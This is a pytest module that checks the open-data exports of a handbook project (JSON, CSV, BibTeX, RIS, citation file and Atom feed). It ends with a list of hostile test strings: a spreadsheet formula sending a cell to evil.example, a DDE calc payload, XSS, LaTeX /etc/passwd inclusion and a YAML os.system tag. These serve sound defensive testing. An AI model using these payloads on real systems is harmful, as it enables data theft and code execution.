"""The open data: every file fits its format, agrees with the others and with the data, and survives hostile words."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import os
import re
import subprocess
import sys
from collections import Counter
from pathlib import Path
from typing import Any

import feedparser
import jsonschema
import lxml.etree
import lxml.html
import pybtex.database
import pytest
import rispy
import yaml
from conftest import ROOT, SITE
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from macros import model
from macros.basics.project import Project
from macros.formats import exporting, plainmarkdown
from macros.formats.citing import cite_page
from macros.formats.datafiles import ChangesFile, HandbookFile
from macros.formats.references import bibtex_of, divided, names_of, ris_of
from macros.formats.tables import protected, unprotected
from macros.history.comparing import compare
from macros.history.doing import changes_told
from macros.model import Source
from macros.model.loading import read_all
from macros.model.marks import mentions, plain
from macros.pages.library import Library
from macros.pages.pagekinds import PAGE_KINDS
from macros.pages.templating import page_templates
from macros.pages.words import typeset
from macros.site.layout import describe
from macros.site.opening import open_sites
from macros.site.shell import Site


def _texts(files: dict[str, bytes]) -> dict[str, str]:
    """Exports carry bytes; every file that is text is UTF-8."""
    return {name: content.decode() for name, content in files.items()}


def export_version(site):
    return _texts(exporting.export_version(site))


def export_root(sites):
    return _texts(exporting.export_root(sites))


def export_markdown(site):
    return _texts(plainmarkdown.export_markdown(site))


ATOM = "{http://www.w3.org/2005/Atom}"
TABLES = ("elements.csv", "sources.csv", "feedback.csv", "changes.csv", "glossary.csv", "case-studies.csv")


def sites_of(root: Path, project: Project | None = None) -> list[Site]:
    """The sites of a handbook that need not pass the check: a hostile one would not."""
    handbook, _ = read_all(root)  # what the check refuses, unseen letters for one, must do no harm either
    assert handbook is not None
    library = Library(handbook, ROOT / "docs", page_templates())
    return [Site(library, iteration, project or Project()) for iteration in handbook.iterations.values()]


@pytest.fixture(scope="session")
def sites() -> list[Site]:
    return open_sites(ROOT)


@pytest.fixture(scope="session")
def exported(sites) -> list[tuple[Site, dict[str, str]]]:
    """Each version with its files, by name within data/."""
    return [(site, {name.removeprefix("data/"): text for name, text in export_version(site).items()}) for site in sites]


def rows_of(text: str) -> list[dict[str, str]]:
    """A table read by the letter of RFC 4180, the apostrophes taken off."""
    assert not text.startswith("\ufeff") and text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert len({len(row) for row in rows}) == 1 and len(set(rows[0])) == len(rows[0])
    for row in rows:
        assert not any(re.match(r"\s*[=+\-@＝＋－＠\t\r]", cell) for cell in row), row
    return [dict(zip(rows[0], map(unprotected, row), strict=True)) for row in rows[1:]]


# -- readers of others -----------------------------------------------------------------------------


def read_bibtex(text: str) -> dict[str, Any]:
    """BibTeX as pybtex reads it: entries by key. It raises on what is not BibTeX, and on a key given twice."""
    return dict(pybtex.database.parse_string(text, "bibtex").entries.items())


def from_latex(value: str) -> str:
    """The text that LaTeX would set. Raises where it would see a command, a comment or mathematics."""
    out, named = "", {"backslash": "\\", "braceleft": "{", "braceright": "}", "asciitilde": "~", "asciicircum": "^"}
    while value:
        found = re.match(
            r"\\text(backslash|braceleft|braceright|asciitilde|asciicircum)\{\}|\\([$&#%_])|[{}]|([^\\${}&#%_~^])",
            value,
        )
        assert found, f"LaTeX would not set this as text: {value[:30]}"
        out += named[found[1]] if found[1] else found[2] or found[3] or ""
        value = value[found.end() :]
    return out


def read_ris(text: str) -> list[dict[str, Any]]:
    """RIS as rispy reads it. It leaves out a line that it does not know, so there may be none."""
    assert all(re.match("[A-Z][A-Z0-9]  - ", line) for line in text.split("\r\n") if line) and "\n" not in text.replace(
        "\r\n", ""
    )
    records = rispy.loads(text)
    assert not any("unknown_tag" in record for record in records)
    return records


def read_feed(text: str) -> Any:
    """A feed as feedparser reads it."""
    read = feedparser.parse(text.encode())
    assert not read.bozo and read.version == "atom10", read.get("bozo_exception")
    return read


def misfits(value: Any, schema: dict[str, Any]) -> list[str]:
    """Where a value does not fit a JSON Schema, as jsonschema finds it."""
    jsonschema.Draft202012Validator.check_schema(schema)
    checked = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)
    return [f"{error.json_path}: {error.message[:80]}" for error in checked.iter_errors(value)]


def one_line(text: str | None) -> str:
    return re.sub(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\s]+", " ", plain(text or "")).strip()


# -- what there is -----------------------------------------------------------------------------------


def test_each_version_has_the_same_files_and_the_page_tells_of_each(exported):
    page = (ROOT / "docs" / "about" / "open-data.md").read_text("utf-8")
    told = set(re.findall(r'handbook\.file\("data/([^"]+)"\)', page))
    for _, files in exported:
        assert set(files) == told
    assert 'handbook.root("feed.xml")' in page and set(export_root([site for site, _ in exported])) == {
        "feed.xml",
        "feed-cy.xml",
    }


def test_the_manifest_lists_each_file_as_it_is(exported):
    for site, files in exported:
        manifest = json.loads(files["manifest.json"])
        assert {row["name"] for row in manifest["files"]} == set(files) - {"manifest.json"}
        for row in manifest["files"]:
            raw = files[row["name"]].encode()
            assert (row["bytes"], row["sha256"]) == (len(raw), hashlib.sha256(raw).hexdigest())
        assert manifest["version"] == site.iteration.version


def test_every_stamp_is_that_of_the_version(exported):
    for site, files in exported:
        digest = describe(site)["digest"]
        for name in ("handbook.json", "changes.json", "manifest.json"):
            stamp = json.loads(files[name])
            assert (stamp["version"], stamp["digest"], stamp["licence"]) == (
                site.iteration.version,
                digest,
                "CC-BY-4.0",
            )
        if not site.iteration.is_draft:
            assert digest == site.iteration.about.digest
        assert digest in files["sources.bib"] and f"sha256:{digest}" in files["CITATION.cff"]
        pages, words = read_bibtex(files["pages.bib"]), site.library.paths[site.iteration.version]
        assert len(pages) > 30 and all(
            f"iteration {site.iteration.version}" in entry.fields["howpublished"] for entry in pages.values()
        )
        assert len(pages) == sum(kind not in PAGE_KINDS or PAGE_KINDS[kind].cited for kind, _ in words.values())
        for name in TABLES:
            assert {row["iteration"] for row in rows_of(files[name])} <= {site.iteration.version}


def test_the_same_data_gives_the_same_text_in_any_process(tmp_path):
    program = (
        "import hashlib, pathlib, sys\nfrom macros.formats.exporting import *\n"
        "from macros.formats.plainmarkdown import export_markdown\nfrom macros.site.opening import open_sites\n"
        "sites = open_sites(pathlib.Path(sys.argv[1]))\n"
        "sites = [sites[0], *sites[-2:]]  # the oldest, the newest, the draft\n"
        "everything = [sorted({**export_version(s), **export_markdown(s)}.items()) for s in sites]\n"
        "everything.append(export_root(sites))\n"
        "print(hashlib.sha256(repr(everything).encode()).hexdigest())"
    )
    both = [
        subprocess.Popen(
            [sys.executable, "-c", program, str(ROOT)],
            cwd=ROOT,
            env={**os.environ, "PYTHONHASHSEED": seed},
            stdout=subprocess.PIPE,
            text=True,
        )
        for seed in ("1", "2")
    ]
    printed = {process.communicate()[0] for process in both}
    assert len(printed) == 1 and len(printed.pop()) == 65


def test_the_commit_is_named_only_where_it_holds_the_words(scratch):
    def git(*words: str) -> str:
        return subprocess.run(
            ["git", "-c", "user.name=T", "-c", "user.email=t@example.invalid", *words],
            cwd=scratch.root,
            check=True,
            capture_output=True,
            text=True,
        ).stdout.strip()

    def commits() -> list[str | None]:
        return [json.loads(export_version(site)["data/handbook.json"])["commit"] for site in sites_of(scratch.root)]

    assert commits() == [None, None]
    git("init", "--quiet")
    git("add", ".")
    git("commit", "--quiet", "-m", "one")
    first = git("rev-parse", "HEAD")
    assert commits() == [first, first]
    scratch.change("data/draft/iteration.yml", lambda d: d.update(summary="Other words."))
    assert commits() == [first, None]
    git("commit", "--quiet", "-am", "two")
    assert commits() == [first, git("rev-parse", "HEAD")]


@pytest.mark.parametrize("ending", ["\r\n", "\r"])
def test_line_ends_change_nothing(scratch, ending):
    """A checkout with git's core.autocrlf has the same words, and so the same digests and the same files."""

    def everything() -> list[dict[str, bytes]]:
        return [exporting.export_version(site) for site in sites_of(scratch.root)]

    before = everything()
    for path in (scratch.root / "data").rglob("*"):
        if path.is_file():
            path.write_bytes(path.read_bytes().replace(b"\n", ending.encode()))
    assert everything() == before and not scratch.problems()


# -- JSON, schema and tables -------------------------------------------------------------------------


def test_the_json_is_the_data_and_can_be_read_back(exported):
    for site, files in exported:
        read = HandbookFile.model_validate_json(files["handbook.json"])
        iteration = site.iteration
        assert read.about.model_dump() == iteration.about.model_dump()
        for kind in model.ELEMENTS:
            there = getattr(read.elements, kind.replace("-", "_"))
            assert [item.id for item in there] == [item.id for item in iteration.of(kind)]
            assert [item.model_dump(mode="json") for item in there] == [
                item.model_dump(mode="json") for item in iteration.of(kind)
            ]
        for there, here in (
            (read.terms, iteration.terms),
            (read.sources, iteration.sources),
            (read.changes, {each.id: each for each in changes_told(site.library.history, iteration)}),
        ):
            assert {item.id: item.model_dump() for item in there} == {
                id_: item.model_dump() for id_, item in here.items()
            }
        beside = {"does", "now", "replaces"}  # of what is frozen, told beside it: tests/test_doing.py
        assert [item.model_dump(exclude=beside) for item in read.changes] == [
            item.model_dump(exclude=beside)
            for item in sorted(iteration.changes.values(), key=lambda item: (item.order, item.id))
        ]
        assert [workshop.model_dump() for workshop in read.workshops] == [
            workshop.model_dump() for workshop in site.library.workshops_in(iteration)
        ]
        assert [entry.id for entry in read.index if entry.kind == "activity"] == [
            activity.id for _, activity in iteration.activities()
        ]
        ChangesFile.model_validate_json(files["changes.json"])


def test_the_json_is_complete_in_itself(exported):
    """Whatever a file names, it holds: sources, terms, elements, feedback and codes."""
    for _, files in exported:
        read = HandbookFile.model_validate_json(files["handbook.json"])
        sources = {source.id for source in (*read.sources, *read.workshop_sources)}
        assert len(sources) == len(read.sources) + len(read.workshop_sources)
        named = [mention for workshop in read.workshops for mention in mentions(workshop)]
        named += [
            mention
            for kind in model.ELEMENTS
            for item in getattr(read.elements, kind.replace("-", "_"))
            for mention in mentions(item)
        ]
        assert {mention.id for mention in named if mention.kinds == ("source",)} <= sources
        assert {mention.id for mention in named if mention.kinds == ("term",)} <= {term.id for term in read.terms}
        assert set(read.led_to) == {item.id for workshop in read.workshops for item in workshop.feedback}
        assert {source.kind for source in read.sources} <= set(read.codes["source-kind"])


def test_one_line_is_what_the_page_is_described_by(exported):
    for site, files in exported:
        described = {page.id: page.description for page in site.pages if page.kind in model.ELEMENTS}
        index = {
            entry["id"]: entry["one_line"]
            for entry in json.loads(files["handbook.json"])["index"]
            if entry["kind"] != "activity"
        }
        assert index == described


@pytest.mark.parametrize("name", ["handbook", "changes", "to-do"])
def test_each_file_fits_its_schema(exported, name):
    for _, files in exported:
        schema, value = json.loads(files[f"{name}.schema.json"]), json.loads(files[f"{name}.json"])
        assert value["$schema"] == f"{name}.schema.json"
        assert not misfits(value, schema)


BROKEN = {
    "a field missing": lambda d: d["elements"]["step"][0].pop("why"),
    "an unknown field": lambda d: d["elements"]["step"][0].update(colour="blue"),
    "an unknown kind": lambda d: d["elements"].update(gadget=[]),
    "a kind missing": lambda d: d["elements"].pop("principle"),
    "a word not in its list": lambda d: d["sources"][0].update(kind="rumour"),
    "text for a number": lambda d: d["elements"]["step"][0].update(order="1"),
    "an id not in form": lambda d: d["index"][0].update(id="Not An Id"),
    "a status that there is not": lambda d: d["index"][0].update(status="old"),
    "a version that is a number": lambda d: d.update(version=0.2),
    "no digest": lambda d: d.pop("digest"),
    "one thing for a list": lambda d: d.update(workshops={}),
}


@pytest.mark.parametrize("name", BROKEN)
def test_the_schema_and_the_model_refuse_a_broken_file(exported, name):
    files = exported[-1][1]
    schema, value = json.loads(files["handbook.schema.json"]), json.loads(files["handbook.json"])
    BROKEN[name](value)
    assert misfits(value, schema)
    with pytest.raises(ValidationError):
        HandbookFile.model_validate_json(json.dumps(value))


def test_every_field_of_the_schema_says_what_it_means(exported):
    schema = json.loads(exported[-1][1]["handbook.schema.json"])
    for name, part in {"": schema, **schema["$defs"]}.items():
        for field, what in part.get("properties", {}).items():
            assert what.get("description"), f"{name}.{field}"


def test_the_tables_say_what_the_json_says(exported):
    for _, files in exported:
        data = json.loads(files["handbook.json"])
        assert [{key: row[key] for key in data["index"][0]} for row in rows_of(files["elements.csv"])] == data["index"]
        sources = rows_of(files["sources.csv"])
        assert [(row["id"], row["cited_by"]) for row in sources] == [
            (s["id"], who)
            for key, who in (("sources", "iteration"), ("workshop_sources", "workshops"))
            for s in data[key]
        ]
        for row, source in zip(sources, [*data["sources"], *data["workshop_sources"]], strict=True):
            assert (
                row["url"] == (source["url"] or "")
                and row["title"] == plain(source["title"])
                and row["note"] == plain(source["note"] or "")
            )
            assert row["verified"] == (source["verified"] or "")
        feedback = [(item, workshop) for workshop in data["workshops"] for item in workshop["feedback"]]
        heard = rows_of(files["feedback.csv"])
        assert [(row["id"], row["workshop"], row["status"], row["said"]) for row in heard] == [
            (f["id"], w["id"], f["status"], plain(f["said"])) for f, w in feedback
        ]
        assert [row["changes"] for row in heard] == ["; ".join(data["led_to"][f["id"]]) for f, _ in feedback]
        changes = rows_of(files["changes.csv"])
        assert [(r["id"], r["kind"], r["elements"], r["why"]) for r in changes] == [
            (c["id"], c["kind"], "; ".join(c["elements"]), plain(c["why"])) for c in data["changes"]
        ]
        assert [(r["id"], r["term"], r["definition"]) for r in rows_of(files["glossary.csv"])] == [
            (t["id"], plain(t["term"]), plain(t["definition"])) for t in data["terms"]
        ]
        cases = rows_of(files["case-studies.csv"])
        assert [(r["id"], r["value"], r["result"], r["evidence"]) for r in cases] == [
            (c["id"], plain(c["value"]), c["result"], "; ".join(c["evidence"])) for c in data["elements"]["case-study"]
        ]
        assert all(row["sources"] for row in cases)


def test_every_feedback_leads_to_changes_that_name_it(exported):
    for site, files in exported:
        for feedback, changes in json.loads(files["handbook.json"])["led_to"].items():
            for name in changes:
                version, id_ = name.split("/")
                assert feedback in site.handbook.iterations[version].changes[id_].feedback


def test_every_address_leads_to_a_page_of_the_site(exported):
    for site, files in exported:
        for row in rows_of(files["elements.csv"]):
            path, _, anchor = row["address"].removeprefix(site.version_address).partition("#")
            page = SITE / site.folder / path / "index.html"
            assert page.is_file(), row
            assert not anchor or f'id="{anchor}"' in page.read_text("utf-8"), row


def test_addresses_are_whole_once_the_site_has_one(sites):
    known = Site(
        sites[0].library, sites[0].iteration, Project("https://example.org/repo", "https://example.org/guide/")
    )
    files = export_version(known)
    assert json.loads(files["data/handbook.json"])["address"] == "https://example.org/guide/0.1/"
    assert all(
        row["address"].startswith("https://example.org/guide/0.1/") for row in rows_of(files["data/elements.csv"])
    )


# -- differences -------------------------------------------------------------------------------------


def test_the_differences_are_those_of_the_comparison_and_each_has_its_reason(exported):
    for site, files in exported:
        told, before = json.loads(files["changes.json"]), site.handbook.before(site.iteration)
        if before is None:
            assert (told["before"], told["differences"], told["changes"], told["summary"]) == (None, [], [], {})
            continue
        assert told["before"] == before.version and told["before_digest"] == before.about.digest
        real = {difference.id: difference for difference in compare(before, site.iteration)}
        assert {row["id"] for row in told["differences"]} == set(real) and len(told["differences"]) == len(real)
        named = set()
        for row in told["differences"]:
            assert row["because"], f"{row['id']} has no reason"
            named |= {change["id"] for change in row["because"]}
            assert [(f["name"], f["before"], f["after"]) for f in row["fields"]] == [
                (f.name, f.before, f.after) for f in real[row["id"]].fields
            ]
        assert named == {change["id"] for change in told["changes"]}
        assert told["summary"] == Counter(label for row in told["differences"] for label in row["changes"])


def test_an_activity_that_comes_with_its_step_is_explained_by_the_steps_entry(scratch):
    scratch.write(
        "data/draft/steps/look-back.yml",
        {
            "id": "look-back",
            "title": "Look back",
            "order": 5,
            "in_one_line": "Look.",
            "why": "To learn.",
            "activities": [{"id": "ask-everybody", "title": "Ask everybody", "how": "Ask."}],
        },
    )
    scratch.write(
        "data/draft/changes/look-back-comes.yml",
        {
            "id": "look-back-comes",
            "kind": "added",
            "elements": ["look-back"],
            "summary": "A step.",
            "why": "It was missing.",
        },
    )
    told = json.loads(export_version(sites_of(scratch.root)[-1])["data/changes.json"])
    because = {row["id"]: [change["id"] for change in row["because"]] for row in told["differences"]}
    assert because["look-back"] == because["ask-everybody"] == ["look-back-comes"]


def test_new_and_changed_agree_with_the_differences(exported):
    for _, files in exported:
        status = {row["id"]: row["status"] for row in rows_of(files["elements.csv"])}
        for row in json.loads(files["changes.json"])["differences"]:
            if row["id"] in status and row["before_id"] is None:
                assert status[row["id"]] == "new", row["id"]
            elif row["id"] in status:
                assert status[row["id"]] == "changed", row["id"]


# -- references --------------------------------------------------------------------------------------


def test_bibtex_has_each_source_and_says_what_the_data_says(exported):
    for _, files in exported:
        data, entries = json.loads(files["handbook.json"]), read_bibtex(files["sources.bib"])
        sources = {source["id"]: source for source in (*data["sources"], *data["workshop_sources"])}
        assert set(entries) == set(sources)
        for id_, entry in entries.items():
            source, fields = sources[id_], entry.fields
            assert from_latex(fields["title"]) == one_line(source["title"])
            assert fields.get("url", "") == (source["url"] or "")
            assert fields.get("year", "") == (source["date"] or "")[:4]
            assert ("author" in entry.persons) == bool(source["authors"])
            assert {"article": "journal", "book": "publisher", "techreport": "institution", "misc": "howpublished"}[
                entry.type
            ] in fields
            assert one_line(source["note"]) in from_latex(fields["annote"])


def test_ris_has_each_source_and_says_what_the_data_says(exported):
    for _, files in exported:
        data, records = json.loads(files["handbook.json"]), read_ris(files["sources.ris"])
        sources = {source["id"]: source for source in (*data["sources"], *data["workshop_sources"])}
        assert [record["id"] for record in records] == sorted(sources)
        for record in records:
            source = sources[record["id"]]
            assert record["title"] == one_line(source["title"])
            assert record.get("urls", []) == ([source["url"]] if source["url"] else [])
            assert record.get("year", "") == (source["date"] or "")[:4]
            assert bool(record.get("authors")) == bool([each for each in source["authors"] if each != "others"])


def _source(**more):
    return Source(**{"id": "a-source", "title": "T", "publisher": "P", "kind": "research", "read": "whole", **more})


@pytest.mark.parametrize(
    "authors, bibtex, ris, words",
    [
        (["Berg, Ludwig van der"], "Berg, Ludwig van der", ["Berg, Ludwig van der"], "Ludwig van der Berg"),
        (["van der Berg, Ludwig"], "van der Berg, Ludwig", ["van der Berg, Ludwig"], "Ludwig van der Berg"),
        (
            ["Smith, John", "Doe, Jane"],
            "Smith, John and Doe, Jane",
            ["Smith, John", "Doe, Jane"],
            "John Smith and Jane Doe",
        ),
        (["National Audit Office"], "{National Audit Office}", ["National Audit Office"], "National Audit Office"),
        (
            [{"organisation": "Department for Business, Energy and Industrial Strategy"}],
            "{Department for Business, Energy and Industrial Strategy}",
            ["Department for Business, Energy and Industrial Strategy"],
            "Department for Business, Energy and Industrial Strategy",
        ),
        (
            ["Redgate, Samantha", "others"],
            "Redgate, Samantha and others",
            ["Redgate, Samantha"],
            "Samantha Redgate and others",
        ),
        (
            "Zhi Cao and Fabrice Lumineau",
            "{Zhi Cao and Fabrice Lumineau}",
            ["Zhi Cao and Fabrice Lumineau"],
            "Zhi Cao and Fabrice Lumineau",
        ),
    ],
)
def test_authors_are_what_the_data_says(authors, bibtex, ris, words):
    source = _source(authors=authors)
    assert f"  author = {{{bibtex}}},\n" in bibtex_of(source)
    assert re.findall(r"^AU  - (.*)\r$", ris_of(source, "x"), re.M) == ris
    assert source.authors_in_words == words


def test_what_an_older_iteration_wrote_in_one_line_is_taken_apart_as_the_newest_data_says():
    old = _source(authors="Zhi Cao and Fabrice Lumineau", publisher="Local Government Studies 33(4)")
    new = _source(
        authors=["Cao, Zhi", "Lumineau, Fabrice"],
        publisher="Local Government Studies",
        published_as="article",
        volume="33",
        issue="4",
    )
    assert bibtex_of(divided(old, {"a-source": new})) == bibtex_of(new)
    assert divided(old, {}) is old
    other = new.model_copy(update={"authors": ["Cao, Zhi"]})
    assert names_of(divided(old, {"a-source": other})) == names_of(old)


@pytest.mark.parametrize(
    "more, kind, ris_kind",
    [
        ({"published_as": "article", "volume": "33", "issue": "4"}, "article", "JOUR"),
        ({"published_as": "book"}, "book", "BOOK"),
        ({"published_as": "working-paper"}, "techreport", "RPRT"),
        ({"publisher": "Cambridge University Press"}, "misc", "GEN"),
    ],
)
def test_research_is_an_article_or_a_book_only_where_the_data_says_so(more, kind, ris_kind):
    source = _source(**more)
    assert bibtex_of(source).startswith(f"@{kind}{{a-source,") and f"TY  - {ris_kind}\r\n" in ris_of(source, "x")


def test_an_address_that_is_a_doi_is_given_as_one():
    source = _source(url="https://doi.org/10.1093/jopart/muy082")
    assert "  doi = {10.1093/jopart/muy082},\n" in bibtex_of(source)
    assert "DO  - 10.1093/jopart/muy082\r\n" in ris_of(source, "x")
    assert "doi =" not in bibtex_of(_source(url="https://example.org/doi.org/10.1"))


def test_volume_and_number_are_told():
    source = _source(publisher="Journal of Public Administration", published_as="article", volume="20-21", issue="4")
    said = read_bibtex(bibtex_of(source))["a-source"].fields
    assert (said["journal"], said["volume"], said["number"]) == ("Journal of Public Administration", "20--21", "4")
    assert "VL  - 20-21\r\nIS  - 4\r\n" in ris_of(source, "x")
    assert source.published_in == "Journal of Public Administration 20-21(4)"


PARTIAL = {
    "": ({}, {}),
    "2019": ({"year": "2019"}, {"year": "2019"}),
    "2019-03": ({"year": "2019", "month": "mar"}, {"year": "2019", "date": "2019/03//"}),
    "2019-12": ({"year": "2019", "month": "dec"}, {"year": "2019", "date": "2019/12//"}),
    "2019-12-09": ({"year": "2019", "month": "dec", "day": "9"}, {"year": "2019", "date": "2019/12/09/"}),
}


@pytest.mark.parametrize("date", PARTIAL)
def test_of_a_date_each_format_tells_as_much_as_is_known(date):
    source = _source(date=date or None, accessed="2026-11")
    bibtex, ris = PARTIAL[date]
    written = bibtex_of(source)
    assert dict(re.findall(r"^  (year|month|day) = \{?(\w+)\}?,$", written, re.M)) == bibtex
    read = read_bibtex(written)["a-source"].fields
    assert {name: read[name] for name in ("year", "day") if name in read} == {
        k: v for k, v in bibtex.items() if k != "month"
    }
    assert read.get("month", "") == {"mar": "March", "dec": "December"}.get(bibtex.get("month", ""), "")
    assert read["urldate"] == "2026-11"
    (record,) = read_ris(ris_of(source, "x"))
    assert {name: record[name] for name in ("year", "date") if name in record} == ris
    assert record["access_date"] == "2026/11//"


def test_every_author_is_read_as_one_person_or_one_body(exported, sites):
    """Whatever stands in the list of authors is one name to other programs, and its family name is ours."""
    newest = sites[0].handbook.draft.sources
    for _, files in exported:
        data, entries = HandbookFile.model_validate_json(files["handbook.json"]), read_bibtex(files["sources.bib"])
        records = {record["id"]: record for record in read_ris(files["sources.ris"])}
        for id_, source in {source.id: source for source in data.sources}.items():
            names, others = names_of(divided(source, newest))
            persons = entries[id_].persons.get("author", [])
            assert len(persons) == len(names) + others
            told = [" ".join([*person.prelast_names, *person.last_names]) for person in persons[: len(names)]]
            assert [from_latex(name) for name in told] == [one_line(name.family) for name in names], id_
            assert len(records[id_].get("authors", [])) == len(names)


def test_the_citation_file_has_what_its_format_asks_for(exported):
    for site, files in exported:
        values = yaml.safe_load(files["CITATION.cff"])
        assert (
            values["cff-version"] == "1.2.0" and values["message"] and values["title"] and values["authors"][0]["name"]
        )
        assert (
            values["type"] == "dataset"
            and values["version"] == site.iteration.version
            and values["license"] == "CC-BY-4.0"
        )
        assert values.get("date-released") == site.iteration.about.released
        assert set(values) <= {
            "abstract",
            "authors",
            "cff-version",
            "commit",
            "date-released",
            "identifiers",
            "keywords",
            "license",
            "license-url",
            "message",
            "repository-code",
            "title",
            "type",
            "url",
            "version",
        }


def test_a_page_can_be_cited(sites):
    known = Site(sites[0].library, sites[0].iteration, Project("", "https://example.org/guide/"))
    reference, bibtex = cite_page(known, "Trust & {audit}", "tensions/trust-and-audit/")
    released = known.iteration.about.released
    assert (
        reference.startswith(
            "The contributors to the Relational Contracting Handbook, “Trust & {audit}”, "
            "Relational Contracting Handbook, iteration 0.1, "
        )
        and str(released.year) in reference
    )
    assert reference.endswith(" https://example.org/guide/0.1/tensions/trust-and-audit/")
    ((key, entry),) = read_bibtex(bibtex).items()
    fields = entry.fields
    assert key == "relational-contracting-handbook-0.1-tensions-trust-and-audit" and entry.type == "misc"
    assert (
        from_latex(fields["title"]) == "Trust & {audit}"
        and fields["url"] == "https://example.org/guide/0.1/tensions/trust-and-audit/"
    )
    assert fields["year"] == str(released.year)


def test_a_draft_is_cited_as_a_draft_and_without_an_address_none_is_made_up(sites):
    draft = next(site for site in sites if site.iteration.is_draft)
    reference, bibtex = cite_page(Site(draft.library, draft.iteration, Project()), "Home", "")
    assert f"iteration {draft.iteration.version} (draft)" in reference and "http" not in reference + bibtex
    read_bibtex(bibtex)


# -- hostile words -----------------------------------------------------------------------------------

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "formula behind a space": "+ 1+1",
    "formula behind an apostrophe": "'=1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "separators": 'a,b;"c""d",\'e\'\tf',
    "end of an XML element": "]]></title></entry><script>alert(1)</script>&amp;&lt;",
    "LaTeX": r"\input{/etc/passwd} $x_1^2$ 100% #1 ~ {unbalanced \} & \\",
    "only an opening brace": "{{{{",
    "only a closing brace": "}, author = {Somebody},",
    "end of an RIS record": "ER  - \u2028TY  - BOOK\u2028AU  - Somebody",
    "end of a comment": "% @misc{x, title = {y}}",
    "YAML": "--- !!python/object:os.system [a: b] *x &y # z",
    "template": "{{ 7*7 }} {% raw %} {# x #}",
    "script": "<script>alert(1)</script> [x](javascript:alert(1)) <img src=x onerror=alert(1)>",
    "controls": "bell\x07 escape\x1b null\x00 end",
    "letters": "Ünïcödé – “quotes” £5 日本語 \U0001f600",  # letters that turn the direction are refused on reading
}


@pytest.fixture(scope="module", params=HOSTILE)
def poisoned(request, tmp_path_factory) -> tuple[str, list[Site]]:
    """A small handbook with hostile words in each kind of place."""
    from conftest import Scratch

    scratch, poison = Scratch(tmp_path_factory.mktemp("poisoned")), HOSTILE[request.param]
    scratch.change(
        "data/draft/iteration.yml", lambda d: d.update(title=poison, summary=f"{poison}\n\n{poison}", question=poison)
    )
    scratch.change(
        "data/draft/tools/learning-log.yml", lambda d: d.update(title=poison, in_one_line=poison, keywords=[poison])
    )
    scratch.change(
        "data/draft/steps/shape-the-approach.yml", lambda d: d["activities"][0].update(title=poison, outcome=poison)
    )
    scratch.change(
        "data/draft/sources.yml",
        lambda d: d.append(
            {
                "id": "a-hostile-source",
                "title": poison,
                "authors": f"A. Name and {poison}",
                "publisher": poison,
                "kind": "research",
                "read": "extract",
                "note": poison,
                "read_via": poison,
                "url": "https://example.org/{a}\\b%20c?d=1&e=#f_g",
            }
        ),
    )
    scratch.write(
        "data/draft/glossary.yml",
        [
            {
                "id": "hostile",
                "term": poison,
                "definition": poison,
                "also": [poison],
                "not_to_confuse": [{"term": poison, "difference": poison}],
            }
        ],
    )
    scratch.write(
        "data/draft/changes/a-hostile.yml",
        {
            "id": "a-hostile",
            "kind": "reworded",
            "elements": ["learning-log"],
            "summary": poison,
            "why": f"{poison}\n\n{poison}",
            "order": 1,
        },
    )
    scratch.change(
        "data/workshops/soc24-croissants-and-collaborations.yml",
        lambda d: d.update(title=poison) or d["feedback"][0].update(theme=poison, said=f"One.\n\n{poison}"),
    )
    scratch.write(
        "data/draft/case-studies/a-case.yml",
        {
            "id": "a-case",
            "title": poison,
            "place": poison,
            "country": poison,
            "sector": poison,
            "themes": [poison],
            "commissioners": poison,
            "providers": poison,
            "years": poison,
            "value": poison,
            "length": poison,
            "route": poison,
            "form": "alliance",
            "result": "mixed",
            "opening": poison,
            "problem": poison,
            "what_happened": poison,
            "evidence": ["self-reported"],
            "evidence_note": poison,
        },
    )
    return poison.strip(), sites_of(scratch.root)


def test_hostile_words_survive_in_json_and_tables(poisoned):
    poison, sites = poisoned
    files = export_version(sites[-1])
    data = HandbookFile.model_validate_json(files["data/handbook.json"])
    assert data.about.title == poison and data.terms[0].definition == poison and data.changes[0].summary == poison
    schema = json.loads(files["data/handbook.schema.json"])
    assert not misfits(json.loads(files["data/handbook.json"]), schema)
    shown = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "", plain(poison))
    tables = {name: rows_of(files[f"data/{name}"]) for name in TABLES}
    assert next(row for row in tables["elements.csv"] if row["id"] == "learning-log")["title"] == shown
    source = next(row for row in tables["sources.csv"] if row["id"] == "a-hostile-source")
    assert source["title"] == source["note"] == shown and source["url"] == "https://example.org/{a}\\b%20c?d=1&e=#f_g"
    assert tables["glossary.csv"][0]["definition"] == shown and tables["changes.csv"][0]["summary"] == shown
    assert tables["feedback.csv"][0]["said"] == re.sub(
        r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "", plain(f"One.\n\n{poison}")
    )
    assert tables["case-studies.csv"][0]["value"] == shown
    assert json.loads(files["data/changes.json"])["changes"][0]["summary"] == poison


def test_hostile_words_survive_in_references(poisoned):
    poison, sites = poisoned
    files = export_version(sites[-1])
    entries, records = read_bibtex(files["data/sources.bib"]), read_ris(files["data/sources.ris"])
    fields = entries["a-hostile-source"].fields
    assert from_latex(fields["title"]) == one_line(poison) and one_line(poison) in from_latex(fields["annote"])
    assert fields["url"] == "https://example.org/%7Ba%7D%5Cb%20c?d=1&e=#f_g"
    record = next(record for record in records if record["id"] == "a-hostile-source")
    assert record["title"] == one_line(poison) and len(entries) == len(records)
    assert one_line(poison) in yaml.safe_load(files["data/CITATION.cff"])["title"]
    reference, bibtex = cite_page(sites[-1], poison, "tools/learning-log/")
    ((_, entry),) = read_bibtex(bibtex).items()
    assert one_line(poison) in reference and from_latex(entry.fields["title"]) == one_line(poison)


def test_hostile_words_survive_in_the_feed(poisoned):
    poison, sites = poisoned
    tree = lxml.etree.fromstring(export_root(sites)["feed.xml"].encode())
    title = re.sub(r"[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]", "", plain(poison))
    assert title in tree.find(f"{ATOM}entry/{ATOM}title").text
